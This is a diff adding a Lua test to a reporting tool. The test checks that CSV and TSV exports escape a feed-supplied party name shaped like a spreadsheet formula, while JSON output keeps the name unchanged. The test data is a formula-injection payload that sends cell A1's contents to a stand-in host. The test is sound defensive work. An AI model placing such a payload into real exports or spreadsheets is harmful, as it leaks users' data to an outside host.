@@ -236,6 +236,23 @@ describe("every shipped report's output", function()
   end
 end)
 
+-- A name from a feed is data, never a formula: what a spreadsheet opens of
+-- quarry's csv and tsv cannot run it, while json keeps the name as it is.
+describe("a lead party named like a formula", function()
+  it("reaches csv and tsv as text a spreadsheet shows, not a formula it runs", function()
+    local party = '=HYPERLINK("http://x.invalid/?"&A1,"Totals")'
+    db:exec("INSERT INTO bitcoin_difficulty VALUES ('2031-07-01', 100e12) ON CONFLICT DO NOTHING")
+    load_data({ '2031-07-09,3,T_SGRWO-1,"' .. party:gsub('"', '""') .. '",-4,-200,-50,-50,true,false' })
+    local args = "farms --date 2031-07-09 --by lead_party --no-cache --format "
+    local csv = report(args .. "csv")
+    assert.matches('\r\n"\'=HYPERLINK(""http://x.invalid/?""&A1,""Totals"")",', csv, 1, true)
+    assert.is_nil(csv:find("\n=", 1, true))
+    local tsv = report(args .. "tsv")
+    assert.matches("\n'=HYPERLINK(", tsv, 1, true)
+    assert.are.equal(party, cjson.decode((report(args .. "json"))).rows[1].lead_party)
+  end)
+end)
+
 
 -- README's first analysis, as a new analyst runs it: the top farms by
 -- payment in a quarter with S9 bitcoin, to CSV for a spreadsheet and to
